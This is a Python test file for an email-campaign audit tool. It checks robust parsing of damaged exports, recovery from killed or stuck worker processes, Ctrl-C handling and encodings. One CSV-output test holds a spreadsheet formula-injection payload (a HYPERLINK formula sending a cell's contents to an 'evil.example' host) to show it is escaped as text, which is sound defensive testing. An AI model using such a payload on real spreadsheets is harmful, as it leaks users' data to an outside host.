"""Campaign audits that lose nothing: every row of a damaged export is read or failed with its
reason, a killed worker or Ctrl-C never hangs or garbles a run, and CSV output cannot run
formulas in a spreadsheet. Real files (tests/fixtures/reliability), real worker processes,
real signals."""

from __future__ import annotations

import codecs
import csv
import gzip
import importlib
import json
import multiprocessing
import os
import signal
import struct
import subprocess
import sys
import time
from concurrent.futures import Future, ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from pathlib import Path

import pytest
from click.testing import CliRunner

from honestreach.campaign import WorkerSettings, audit, iter_records, iter_rows
from honestreach.campaign.audit import WorkerPool, _kill
from honestreach.campaign.csvrecords import read_records
from honestreach.campaign.output import spreadsheet_safe
from honestreach.campaign.sources import ReadProgress, Row
from honestreach.campaign.summary import Summary, format_text
from honestreach.campaign.worker import check_chunk
from honestreach.cli import main
from honestreach.model import SendRecord

FIXTURES = Path(__file__).parent / "fixtures" / "reliability"
HEADER = "id,to,from,subject,body,sent_at\r\n"


def _audit(source: Path, jobs: int = 1):  # type: ignore[no-untyped-def]
    records: list[SendRecord] = []
    result = audit(WorkerSettings(str(source)), jobs=jobs, on_record=records.append)
    return result.summary, records


def _row(n: int, body: str = "Hi,\n\nThe notes from Tuesday.\n\nKim") -> str:
    body = body.replace('"', '""')
    return f's{n},r{n}@example.com,kim@example.com,Notes,"{body}",2026-11-02T09:00:00Z\r\n'


# -- CSV exports ---------------------------------------------------------------------------------
def test_a_windows_1252_export_is_read_with_a_note() -> None:
    summary, records = _audit(FIXTURES / "audit-csv-cp1252-100-rows.csv")
    assert summary["rows"] == {"read": 100, "checked": 100, "failed": 0}
    assert summary["source"]["rows"] == 100
    assert summary["source"]["notes"] == {"rows read as Windows-1252 (not UTF-8)": 1}
    assert any(r.subject == "Café meeting" for r in records)
    assert "note, rows read as Windows-1252 (not UTF-8): 1" in format_text(summary)


def test_one_binary_row_fails_alone_with_its_line() -> None:
    summary, records = _audit(FIXTURES / "audit-csv-one-binary-row.csv")
    assert summary["rows"] == {"read": 300, "checked": 299, "failed": 1}
    assert summary["failed_by_reason"] == {"wrong number of fields": 1}
    (failed,) = [r for r in records if not r.checked]
    assert failed.errors[0].startswith("row 50 (line 296): 1 fields, the header has 7")
    assert [r.row for r in records] == list(range(1, 301))


def test_a_body_over_the_csv_modules_field_limit_is_one_row() -> None:
    source = FIXTURES / "audit-csv-one-200KB-multiline-body.csv"
    rows = list(iter_rows(str(source)))
    assert len(rows) == 60 and all(row.error is None for row in rows)
    assert max(len(row.fields["body"] or "") for row in rows) > 200_000
    assert [row.id for row in rows] == [f"s{n:04d}" for n in range(1, 61)]


def test_records_are_framed_by_the_csv_quoting_rules(tmp_path: Path) -> None:
    # Quoted line breaks, doubled quotes, a quote inside an unquoted field, blank lines, CRLF,
    # LF and lone CR endings: each record is one row, as the csv module would read it whole.
    data = (HEADER + _row(1, 'Hi,\n\nShe said "yes".\r\n\r\nKim') + "\r\n"
            + 's2,r2@example.com,kim@example.com,A 5" screen,Hello there,\n'
            + "\n" + _row(3) + "s4,r4@example.com,,Notes,Plain body,\r" + _row(5))
    target = tmp_path / "campaign.csv"
    target.write_text(data, encoding="utf-8", newline="")
    expected = list(csv.reader(data.replace("\r\n\r\n", "\r\n").splitlines(keepends=True)))
    rows = list(iter_rows(str(target)))
    assert [row.id for row in rows] == ["s1", "s2", "s3", "s4", "s5"]
    assert rows[0].fields["body"] == 'Hi,\n\nShe said "yes".\r\n\r\nKim'
    assert rows[1].fields["subject"] == 'A 5" screen'
    assert rows[3].fields["body"] == "Plain body"
    assert [row.fields["to"] for row in rows] == [cells[1] for cells in expected[1:] if cells]


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 64])
def test_framing_does_not_depend_on_where_reads_stop(tmp_path: Path, chunk: int) -> None:
    import io

    data = (HEADER + _row(1, 'a "quoted" word,\r\nand "more"') + _row(2)).encode()

    class Trickle(io.RawIOBase):
        """A stream that gives at most ``chunk`` bytes a read."""

        def __init__(self) -> None:
            self.data = memoryview(data)

        def readable(self) -> bool:
            return True

        def read(self, size: int = -1) -> bytes:
            piece, self.data = self.data[:chunk], self.data[chunk:]
            return bytes(piece)

    records = list(read_records(Trickle()))  # type: ignore[arg-type]
    assert [r.line for r in records] == [1, 2, 4]
    assert records[1].cells[4] == 'a "quoted" word,\r\nand "more"'  # type: ignore[index]


def test_a_record_too_long_or_a_quote_never_closed_fails_alone(tmp_path: Path) -> None:
    import io

    long_body = "x" * 5000
    data = (HEADER + _row(1) + _row(2, long_body) + _row(3)).encode()
    records = list(read_records(io.BytesIO(data), limit=2000))
    assert [r.error is None for r in records] == [True, True, False, True]
    assert records[2].reason == "record too long"
    assert records[3].cells[0] == "s3"  # type: ignore[index]
    unclosed = (HEADER + _row(1) + 's2,r2@example.com,kim@example.com,Notes,"never closed\n'
                + "s3,r3@example.com,,Notes,Plain,\r\n").encode()
    records = list(read_records(io.BytesIO(unclosed)))
    assert [r.reason for r in records] == [None, None, "unclosed quote"]
    assert records[2].line == 7


def test_nul_bytes_and_undecodable_bytes_are_not_text(tmp_path: Path) -> None:
    target = tmp_path / "campaign.csv"
    target.write_bytes((HEADER + _row(1)).encode() + b"s2,r2@example.com,,x,bin\x00ary,\r\n"
                       + b"s3,r3@example.com,,x,\x81\x8d,\r\n" + _row(4).encode())
    rows = list(iter_rows(str(target)))
    assert [row.reason for row in rows] == [None, "not text", "not text", None]
    assert rows[1].error.startswith("row 2 (line 7): not text")  # type: ignore[union-attr]


def test_utf16_and_gzip_exports(tmp_path: Path) -> None:
    text = HEADER + _row(1, "Hi Zoë,\n\nThe notes.") + _row(2)
    utf16 = tmp_path / "campaign.csv"
    utf16.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    rows = list(iter_rows(str(utf16)))
    assert [row.id for row in rows] == ["s1", "s2"]
    assert "Zoë" in rows[0].fields["body"]  # type: ignore[operator]
    packed = tmp_path / "campaign.csv.gz"
    packed.write_bytes(gzip.compress(text.encode("cp1252")))
    progress = ReadProgress()
    rows = list(iter_rows(str(packed), progress=progress))
    assert "Zoë" in rows[0].fields["body"] and progress.rows == 2  # type: ignore[operator]
    assert progress.notes == {"rows read as Windows-1252 (not UTF-8)": 1}


def test_an_unreadable_header_is_an_error_not_an_empty_campaign(tmp_path: Path) -> None:
    target = tmp_path / "campaign.csv"
    target.write_bytes(b"\x00\x01\x02\x03 binary,\xff\r\n" + _row(1).encode())
    result = CliRunner().invoke(main, ["audit", str(target), "--jobs", "1"])
    assert result.exit_code == 2 and "header row (line 1) cannot be read" in result.output


# -- mbox and JSONL ------------------------------------------------------------------------------
def test_one_message_that_breaks_the_reader_is_one_failed_row(monkeypatch) -> None:
    from honestreach import mime

    parse_eml = mime.parse_eml

    def fragile(path: str, data: bytes):  # type: ignore[no-untyped-def]
        if b"charset=undefined" in data:
            raise LookupError("unknown encoding: undefined")
        return parse_eml(path, data)

    monkeypatch.setattr(mime, "parse_eml", fragile)
    summary, records = _audit(FIXTURES / "audit-mbox-one-bad-charset.mbox")
    assert summary["rows"] == {"read": 200, "checked": 199, "failed": 1}
    assert summary["failed_by_reason"] == {"could not be read": 1}
    (failed,) = [r for r in records if not r.checked]
    assert failed.row == 100 and "unknown encoding" in failed.errors[0]


def test_the_bad_charset_mbox_in_worker_processes(tmp_path: Path) -> None:
    out = tmp_path / "o.jsonl"
    completed = subprocess.run(
        [sys.executable, "-m", "honestreach", "audit", str(FIXTURES /
                                                          "audit-mbox-one-bad-charset.mbox"),
         "--jobs", "2", "--output", str(out), "--format", "json"],
        capture_output=True, text=True, timeout=300)
    assert "Traceback" not in completed.stderr
    summary = json.loads(completed.stdout)
    assert summary["rows"]["read"] == summary["source"]["rows"] == 200
    assert [json.loads(line)["row"] for line in out.read_text().splitlines()] == \
        list(range(1, 201))


def test_jsonl_lines_too_long_too_deep_or_too_large_a_number(tmp_path: Path, monkeypatch) -> None:
    from honestreach.campaign import tables

    monkeypatch.setattr(tables, "MAX_MESSAGE_BYTES", 25_000)
    good = json.dumps({"id": "ok", "to": "a@example.com", "body": "Hello."})
    target = tmp_path / "campaign.jsonl"
    target.write_text("\n".join([good, json.dumps({"body": "x" * 30_000}),
                                 "[" * 10_000 + "]" * 10_000, '{"id": ' + "9" * 5000 + "}",
                                 good]) + "\n")
    rows = list(iter_rows(str(target)))
    assert [row.reason for row in rows] == [None, "line too long", "invalid JSON",
                                            "invalid JSON", None]
    assert [row.index for row in rows] == [1, 2, 3, 4, 5]


def test_an_eml_folder_with_a_fifo(tmp_path: Path) -> None:
    (tmp_path / "a.eml").write_bytes(b"To: a@example.com\nSubject: Hi\n\nHello.\n")
    os.mkfifo(tmp_path / "b.eml")
    rows = list(iter_rows(str(tmp_path)))
    assert [row.id for row in rows] == ["a.eml", "b.eml"]
    assert rows[1].reason == "unreadable file"
    assert "not a regular file" in rows[1].error  # type: ignore[operator]


# -- accounting ----------------------------------------------------------------------------------
def test_rows_that_do_not_come_back_are_an_error() -> None:
    summary = Summary()
    for n in (1, 2):
        summary.add(SendRecord(n, str(n), str(n), None, None, None, None, None, False,
                               errors=("x",), reason="empty body"))
    document = summary.as_dict([], {}, ReadProgress(rows=3))
    assert document["rows"] == {"read": 2, "checked": 0, "failed": 2}
    assert document["failed_by_reason"] == {"empty body": 2}
    assert "the source gave 3 rows but 2 came back" in document["errors"][0]
    assert "error: the source gave 3 rows" in format_text(document)
    assert summary.as_dict([], {}, ReadProgress(rows=2))["errors"] == []


# -- worker processes ----------------------------------------------------------------------------
def test_a_chunk_whose_worker_dies_twice_fails_and_the_rest_is_checked(monkeypatch) -> None:
    """The pool's bookkeeping, with futures standing in for workers: the chunk holding row 5
    kills its worker every time; the chunks in flight with it are run again."""
    submitted: list[list[int]] = []

    def submit(self, chunk):  # type: ignore[no-untyped-def]
        submitted.append([row.index for row in chunk])
        future: Future = Future()
        if any(row.index == 5 for row in chunk):
            future.set_exception(BrokenProcessPool("a worker died"))
        else:
            future.set_result([SendRecord(row.index, row.id, row.id, None, None, None, None,
                                          None, True) for row in chunk])
        return future

    monkeypatch.setattr(WorkerPool, "_submit", submit)
    pool = WorkerPool(WorkerSettings("campaign.jsonl"), jobs=2)
    pool.warm_here = False  # every chunk goes to the (stand-in) workers
    chunks = [[Row(n, str(n)) for n in range(start, start + 2)] for start in range(1, 13, 2)]
    records = list(pool.records(chunks))
    assert [r.row for r in records] == list(range(1, 13))
    failed = [r for r in records if not r.checked]
    assert [r.row for r in failed] == [5, 6]
    assert all(r.reason == "worker stopped" and "stopped twice" in r.errors[0]
               for r in failed)
    assert submitted.count([5, 6]) == 2  # once, then once more alone



def test_workers_replaced_every_few_chunks_give_every_record_in_order(tmp_path) -> None:
    """Real worker processes: a pool retired after every 2 chunks (so 5 pools for 10 chunks)
    gives the records one process gives, in the same order."""
    source = _campaign(tmp_path, 40)
    settings = WorkerSettings(str(source))
    rows = list(iter_rows(str(source)))
    chunks = [rows[start:start + 4] for start in range(0, len(rows), 4)]
    pool = WorkerPool(settings, jobs=2, recycle_after=2)
    recycled = list(pool.records(chunks))
    # On Linux the workers are forked from a Checker built once here (the 10 chunks take 5
    # pools).
    assert pool.pools_started == 5
    assert pool.pools_forked == (5 if sys.platform.startswith("linux") else 0)
    _, alone = _audit(source)
    assert [(r.row, r.checked, r.findings) for r in recycled] == \
        [(r.row, r.checked, r.findings) for r in alone]
    assert [r.row for r in recycled] == list(range(1, 41))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="workers are forked on Linux")
@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to find the workers")
def test_a_worker_that_dies_between_two_chunks_sent_loses_no_row(tmp_path) -> None:
    """Real workers: one is killed and the pool is broken before the next chunk is sent. The
    pool then refuses the chunk itself (not only the chunks in flight); that chunk is run again
    with the others, and the audit goes on."""
    source = _campaign(tmp_path, 24)
    rows = list(iter_rows(str(source)))
    pool = WorkerPool(WorkerSettings(str(source)), jobs=2)

    def chunks():  # type: ignore[no-untyped-def]
        yield rows[0:4]  # the first chunk sent: the workers start
        yield rows[4:8]
        for worker in _workers(os.getpid()):
            os.kill(worker, signal.SIGKILL)
        deadline = time.monotonic() + 30
        while not pool._pool._broken and time.monotonic() < deadline:  # type: ignore[union-attr]
            time.sleep(0.01)
        assert pool._pool._broken  # type: ignore[union-attr]
        yield from (rows[start:start + 4] for start in range(8, 24, 4))

    records = list(pool.records(chunks()))
    _, alone = _audit(source)
    assert [(r.row, r.checked, r.findings) for r in records] == \
        [(r.row, r.checked, r.findings) for r in alone]
    assert all(r.checked for r in records) and pool.pools_started >= 2


# The module (the package's name ``audit`` is its function).
audit_module = importlib.import_module("honestreach.campaign.audit")
_STUCK_MARK = "HONESTREACH_TEST_STUCK_MARK"


def _stuck_until_marked(chunk: list[Row]) -> list[SendRecord]:
    """A worker that never answers the first time (the mark is not there yet), then checks."""
    mark = Path(os.environ[_STUCK_MARK])
    if not mark.exists():
        mark.touch()
        time.sleep(3600)
    return check_chunk(chunk)


def _stuck_always(chunk: list[Row]) -> list[SendRecord]:
    time.sleep(3600)
    return []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="workers are forked on Linux")
def test_a_chunk_run_again_whose_worker_never_answers_is_run_once_more_in_a_fresh_pool(
        tmp_path, monkeypatch) -> None:
    """After a worker died, a pool forked at once could (rarely) start with a worker that never
    answers. Real workers: the chunk run again waits a bounded time, then a fresh pool runs it,
    and the audit goes on instead of hanging."""
    source = _campaign(tmp_path, 4)
    rows = list(iter_rows(str(source)))
    monkeypatch.setenv(_STUCK_MARK, str(tmp_path / "stuck-once"))
    monkeypatch.setattr(audit_module, "check_chunk", _stuck_until_marked)
    pool = WorkerPool(WorkerSettings(str(source)), jobs=1)
    pool.rerun_timeout = 2.0
    lost: Future[list[SendRecord]] = Future()
    lost.set_exception(BrokenProcessPool("a worker died"))
    started = time.monotonic()
    try:
        records = pool._again(rows, lost)
    finally:
        pool._stop()
    assert time.monotonic() - started < 30
    assert [r.row for r in records] == [1, 2, 3, 4] and all(r.checked for r in records)
    assert pool.pools_started == 2


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="workers are forked on Linux")
def test_a_chunk_run_again_that_never_finishes_becomes_failed_rows(tmp_path, monkeypatch) -> None:
    source = _campaign(tmp_path, 3)
    rows = list(iter_rows(str(source)))
    monkeypatch.setattr(audit_module, "check_chunk", _stuck_always)
    pool = WorkerPool(WorkerSettings(str(source)), jobs=1)
    pool.rerun_timeout = 1.0
    lost: Future[list[SendRecord]] = Future()
    lost.set_exception(BrokenProcessPool("a worker died"))
    try:
        records = pool._again(rows, lost)
    finally:
        pool._stop()
    assert [(r.row, r.checked) for r in records] == [(1, False), (2, False), (3, False)]
    assert "did not finish within 1 s, twice" in records[0].errors[0]
    assert pool.pools_started == 2


def test_forking_workers_leaves_what_this_process_froze_frozen(tmp_path) -> None:
    """The rule set is frozen once loaded (rulecache). Forking workers must not thaw it: this
    process's later collections, and the last one at exit, would walk it all again."""
    import gc

    source = _campaign(tmp_path, 12)
    rows = list(iter_rows(str(source)))
    chunks = [rows[start:start + 4] for start in range(0, len(rows), 4)]
    gc.freeze()
    frozen = gc.get_freeze_count()
    pool = WorkerPool(WorkerSettings(str(source)), jobs=2)
    records = list(pool.records(chunks))
    assert pool.pools_forked == 1 and len(records) == 12
    assert gc.get_freeze_count() >= frozen > 0


def test_with_another_thread_running_workers_are_spawned_not_forked(tmp_path) -> None:
    """A lock another thread holds would stay locked in a forked child: with a second thread
    alive, each worker starts a fresh interpreter, and the records are the same."""
    import threading

    source = _campaign(tmp_path, 12)
    rows = list(iter_rows(str(source)))
    chunks = [rows[start:start + 4] for start in range(0, len(rows), 4)]
    stop = threading.Event()
    other = threading.Thread(target=stop.wait)
    other.start()
    try:
        pool = WorkerPool(WorkerSettings(str(source)), jobs=2)
        spawned = list(pool.records(chunks))
    finally:
        stop.set()
        other.join()
    assert pool.pools_started == 1 and pool.pools_forked == 0
    _, alone = _audit(source)
    assert [(r.row, r.checked, r.findings) for r in spawned] == \
        [(r.row, r.checked, r.findings) for r in alone]

def _campaign(tmp_path: Path, rows: int) -> Path:
    target = tmp_path / "campaign.jsonl"
    with target.open("w", encoding="utf-8") as handle:
        for n in range(1, rows + 1):
            handle.write(json.dumps({
                "id": f"m{n}", "to": f"p{n}@example.com", "subject": "Notes",
                "body": f"Hi P{n},\n\nThe notes from Tuesday's call are attached.\n\nKim\n"
                        "Unsubscribe: https://example.com/u"}) + "\n")
    return target


def _wait_for_lines(path: Path, count: int, process: subprocess.Popen, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and process.poll() is None:
        if path.exists() and path.read_bytes().count(b"\n") >= count:
            return
        time.sleep(0.05)
    pytest.fail(f"the audit wrote fewer than {count} rows in {seconds} s")


def _processes() -> list[tuple[int, str, int, int, bytes]]:
    """Every process: (pid, state, parent, process group, command line)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            command = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        state, parent, group = stat.rsplit(")", 1)[1].split()[:3]
        found.append((int(entry), state, int(parent), int(group), command))
    return found


def _workers(pid: int) -> list[int]:
    """The audit's worker processes (forked, or spawned; not multiprocessing's resource
    tracker)."""
    return [p for p, _, parent, _, command in _processes()
            if parent == pid and b"resource_tracker" not in command]


def _alive_in_group(group: int, seconds: float) -> list[int]:
    """The processes of a group still running (not zombies) after up to ``seconds``."""
    deadline = time.monotonic() + seconds
    while True:
        alive = [p for p, state, _, g, _ in _processes() if g == group and state != "Z"]
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.1)


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to find the workers")
def test_kill_9_of_a_worker_does_not_hang_the_audit(tmp_path: Path) -> None:
    source, out = _campaign(tmp_path, 600), tmp_path / "out.jsonl"
    # With the fault handler on, SIGABRT makes a process print every thread's stack: if the
    # audit ever hangs, the failure shows where.
    process = subprocess.Popen(
        [sys.executable, "-X", "faulthandler", "-m", "honestreach", "audit", str(source),
         "--jobs", "2", "--output", str(out), "--format", "json"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        _wait_for_lines(out, 64, process, 120)
        workers = _workers(process.pid)
        assert workers, "no worker process to kill"
        os.kill(workers[0], signal.SIGKILL)
        try:
            stdout, stderr = process.communicate(timeout=180)
        except subprocess.TimeoutExpired:
            for pid in [*_workers(process.pid), process.pid]:
                os.kill(pid, signal.SIGABRT)
            _, stderr = process.communicate(timeout=30)
            pytest.fail(f"the audit hung after a worker was killed; its stacks:\n{stderr[-20000:]}")
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert "Traceback" not in stderr
    assert stdout, f"exit {process.returncode}: {stderr}"
    summary = json.loads(stdout)
    # The chunks the killed worker held were checked again: nothing is lost or failed.
    assert summary["rows"] == {"read": 600, "checked": 600, "failed": 0}
    assert summary["errors"] == [] and process.returncode == 0
    assert [json.loads(line)["row"] for line in out.read_text().splitlines()] == \
        list(range(1, 601))


# The opening of the scripts below: a real pool of two workers, given the campaign in chunks of
# four rows.
_POOL_OF_TWO = """
import os, signal, struct, sys, time
from pathlib import Path
from honestreach.campaign import WorkerSettings, iter_rows
from honestreach.campaign.audit import WorkerPool

source = sys.argv[1]
rows = list(iter_rows(source))
chunks = [rows[start:start + 4] for start in range(0, len(rows), 4)]
pool = WorkerPool(WorkerSettings(source), jobs=2)
records = pool.records(chunks)
"""

_KILL_THE_WORKER_HOLDING_THE_QUEUE = _POOL_OF_TWO + """
got = [next(records) for _ in rows]  # every record: the workers are idle now
pids = list(pool._pool._processes)
deadline = time.monotonic() + 30
while time.monotonic() < deadline:
    readers = [pid for pid in pids if "pipe_read" in Path(f"/proc/{pid}/wchan").read_text()]
    if readers:
        break
    time.sleep(0.05)
else:
    print("no worker waiting on the queue's pipe"); sys.exit(3)
os.kill(readers[0], signal.SIGKILL)
assert next(records, None) is None
print(len(got), [r.row for r in got] == list(range(1, len(rows) + 1)))
"""


@pytest.mark.skipif(not Path("/proc/self/wchan").is_file(), reason="needs /proc/PID/wchan")
def test_a_worker_killed_while_it_waits_for_work_does_not_hang_the_end(tmp_path: Path) -> None:
    """An idle worker reads the pool's queue holding its lock. Killed then, with every chunk
    done, it dies holding the lock, and the other worker never reads its request to exit:
    the pool is closed anyway (the other worker is killed after a grace period)."""
    source = _campaign(tmp_path, 24)
    process = subprocess.run([sys.executable, "-c", _KILL_THE_WORKER_HOLDING_THE_QUEUE,
                              str(source)], capture_output=True, text=True, timeout=120)
    if process.returncode == 3:
        pytest.skip(process.stdout.strip())  # this kernel does not name the wait
    assert process.returncode == 0, process.stderr
    assert process.stdout.split() == ["24", "True"]


_KILL_A_WORKER_HALFWAY_THROUGH_ITS_RESULT = _POOL_OF_TWO + """
got = [next(records)]
# What a worker killed while it sends a result leaves behind: the results pipe's lock held for
# ever, and half a message in the pipe (a length, then fewer bytes than it says).
results = pool._pool._result_queue
results._wlock.acquire()
os.write(results._writer.fileno(), struct.pack("!i", 1 << 20) + b"half")
os.kill(next(iter(pool._pool._processes)), signal.SIGKILL)
got += list(records)
print(len(got), [r.row for r in got] == list(range(1, len(rows) + 1)))
"""


def test_a_worker_killed_halfway_through_its_result_does_not_hang_the_audit(
        tmp_path: Path) -> None:
    """The pool's own thread then waits for the rest of the message for ever and never
    reports the death; the audit notices the dead worker itself, and the chunks in flight
    are checked again in a new pool."""
    source = _campaign(tmp_path, 48)
    process = subprocess.run([sys.executable, "-c", _KILL_A_WORKER_HALFWAY_THROUGH_ITS_RESULT,
                              str(source)], capture_output=True, text=True, timeout=120)
    assert process.returncode == 0, process.stderr
    assert process.stdout.split() == ["48", "True"]


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs process groups and /proc")
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_ctrl_c_stops_the_audit_with_one_line_and_exit_130(tmp_path: Path, jobs: str) -> None:
    source, out = _campaign(tmp_path, 3000), tmp_path / "out.jsonl"
    process = subprocess.Popen(
        [sys.executable, "-m", "honestreach", "audit", str(source), "--jobs", jobs,
         "--output", str(out)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
        # A job started in the background of a shell inherits SIGINT ignored; a terminal's
        # audit does not, so the child gets the default handling back.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        _wait_for_lines(out, 40, process, 120)
        os.killpg(process.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole group
        stdout, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == 130, stderr
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and "audit interrupted after" in lines[0], stderr
    assert stdout == ""
    written = [json.loads(line) for line in out.read_text().splitlines()]  # each line whole
    assert [r["row"] for r in written] == list(range(1, len(written) + 1))
    assert f"after {len(written)} rows" in lines[0]
    assert _alive_in_group(process.pid, 5) == []  # no worker is left behind


@pytest.mark.skipif("fork" not in multiprocessing.get_all_start_methods(), reason="needs fork")
def test_a_result_half_sent_by_a_killed_worker_does_not_hang_the_pool() -> None:
    # A worker killed (on Ctrl-C, the audit kills its workers) while it sent a result leaves
    # only the start of the message in the pool's results pipe, and the pool's thread waits
    # for the rest: Python joins that thread at exit, so the audit hung after its last line.
    pool = ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("fork"))
    assert pool.submit(int, "7").result() == 7
    manager = pool._executor_manager_thread
    # the length of a message, and none of it
    pool._result_queue._writer._send(struct.pack("!i", 1000))
    time.sleep(0.2)  # the pool's thread reads the length and waits for the rest
    _kill(pool)
    assert manager is not None and not manager.is_alive()


def test_an_interrupted_audit_stops_its_source_at_once(tmp_path: Path) -> None:
    # Ctrl-C while a record is handed on: the audit's source (the worker pool's generator) is
    # closed before the interruption leaves audit(), so its workers stop then, not at exit.
    settings = WorkerSettings(str(_campaign(tmp_path, 40)))
    closed, handed = [], []

    def source():
        try:
            yield from iter_records(settings, iter_rows(settings.source, None, ReadProgress()),
                                    jobs=1)
        finally:
            closed.append(len(handed))

    def on_record(record: SendRecord) -> None:
        handed.append(record.row)
        if len(handed) == 3:
            raise KeyboardInterrupt

    try:
        audit(settings, records=source(), on_record=on_record)
    except KeyboardInterrupt:
        # Still handling it (its traceback holds audit()'s frame): the source is closed already.
        assert closed == [3] and handed == [1, 2, 3]
    else:
        pytest.fail("the interruption did not leave audit()")


# -- CSV output ----------------------------------------------------------------------------------
def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    result = CliRunner().invoke(main, ["audit", str(FIXTURES / "audit-formula-injection.csv"),
                                       "--jobs", "1", "--output", str(out)])
    assert result.exit_code == 2, result.output  # two rows cannot be checked
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")"
    assert [row[0] for row in rows[2:]] == ["'+SUM(1+1)", "'-2+3"]
    assert rows[2][2] == "'@SUM(1)"


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"), ("a=1", "a=1"),
    ("", ""), (42, 42), ("dana@example.com", "dana@example.com"),
])
def test_spreadsheet_safe(value: object, safe: object) -> None:
    assert spreadsheet_safe(value) == safe


# -- --encoding ------------------------------------------------------------------------------------
def _encoded_audit(source: Path, encoding: str | None, **options):  # type: ignore[no-untyped-def]
    from honestreach.campaign.api import audit as api_audit

    records: list[SendRecord] = []
    result = api_audit(source, jobs=1, on_record=records.append, encoding=encoding, **options)
    return result.summary, records


def test_a_windows_1252_export_read_as_cp1252_has_no_fallback_note() -> None:
    summary, records = _encoded_audit(FIXTURES / "audit-csv-cp1252-100-rows.csv", "cp1252")
    assert summary["rows"] == {"read": 100, "checked": 100, "failed": 0}
    assert summary["source"]["rows"] == 100 and summary["source"]["notes"] == {}
    assert any(r.subject == "Café meeting" for r in records)
    assert "note," not in format_text(summary)


def test_a_latin_1_export(tmp_path: Path) -> None:
    # Latin-1 bytes that are not UTF-8, and one (\xff) that Windows-1252 reads alike: with
    # --encoding every row is read in Latin-1, with no note.
    text = (HEADER + _row(1, "Hi Zoë,\n\nThe notes from Señor Núñez.\n\nÅsa")
            + _row(2, "Hi,\n\nA price of 5 ÿ-units.\n\nKim") + _row(3))
    target = tmp_path / "campaign.csv"
    target.write_bytes(text.encode("latin-1"))
    summary, records = _encoded_audit(target, "latin-1", keep_source=True)
    assert summary["rows"] == {"read": 3, "checked": 3, "failed": 0}
    assert summary["source"]["notes"] == {}
    assert "Señor Núñez" in records[0].source and "5 ÿ-units" in records[1].source


@pytest.mark.parametrize(("encoding", "bom"), [("utf-16", codecs.BOM_UTF16_LE),
                                               ("utf-16-le", b""), ("utf-16-be", b"")])
def test_a_utf16_export_given_its_encoding(tmp_path: Path, encoding: str, bom: bytes) -> None:
    text = HEADER + _row(1, "Hi Zoë,\n\nThe notes, \u201cas promised\u201d.") + _row(2) + _row(3)
    codec = "utf-16-be" if encoding == "utf-16-be" else "utf-16-le"
    target = tmp_path / "campaign.csv"
    target.write_bytes(bom + text.encode(codec))
    summary, records = _encoded_audit(target, encoding, keep_source=True)
    assert summary["rows"] == {"read": 3, "checked": 3, "failed": 0}
    assert summary["source"]["notes"] == {}
    assert [r.id for r in records] == ["s1", "s2", "s3"]
    assert "Zoë" in records[0].source and "\u201cas promised\u201d" in records[0].source


def test_a_row_the_given_encoding_cannot_read_fails_alone(tmp_path: Path) -> None:
    # \x81 is not a Windows-1252 character: with --encoding cp1252 its row fails with its line,
    # with no fallback, and the rows after it are read.
    target = tmp_path / "campaign.csv"
    target.write_bytes((HEADER + _row(1)).encode("cp1252") + b"s2,r2@example.com,,x,ab\x81c,\r\n"
                       + (_row(3) + _row(4)).encode("cp1252"))
    summary, records = _encoded_audit(target, "cp1252")
    assert summary["rows"] == {"read": 4, "checked": 3, "failed": 1}
    assert summary["failed_by_reason"] == {"not Windows-1252": 1}
    assert records[1].errors[0].startswith("row 2 (line 7): not Windows-1252")
    # A UTF-16 file with an odd last byte: only the last row fails.
    odd = tmp_path / "odd.csv"
    odd.write_bytes(codecs.BOM_UTF16_LE + (HEADER + _row(1) + _row(2)).encode("utf-16-le")
                    + b"s")
    summary, _ = _encoded_audit(odd, "utf-16")
    assert summary["rows"] == {"read": 3, "checked": 2, "failed": 1}
    assert summary["failed_by_reason"] == {"not UTF-16": 1}


def test_jsonl_in_a_given_encoding(tmp_path: Path) -> None:
    lines = [json.dumps({"id": f"j{n}", "to": f"r{n}@example.com", "subject": "Notes",
                         "body": "Hi Zoë,\n\nThe notes.\n\nÅsa"}, ensure_ascii=False) + "\n"
             for n in range(1, 4)]
    latin = tmp_path / "latin.jsonl"
    latin.write_bytes("".join(lines).encode("latin-1"))
    assert _encoded_audit(latin, None)[0]["failed_by_reason"] == {"not UTF-8": 3}
    summary, records = _encoded_audit(latin, "latin-1", keep_source=True)
    assert summary["rows"] == {"read": 3, "checked": 3, "failed": 0}
    assert "Hi Zoë" in records[0].source
    wide = tmp_path / "wide.jsonl"
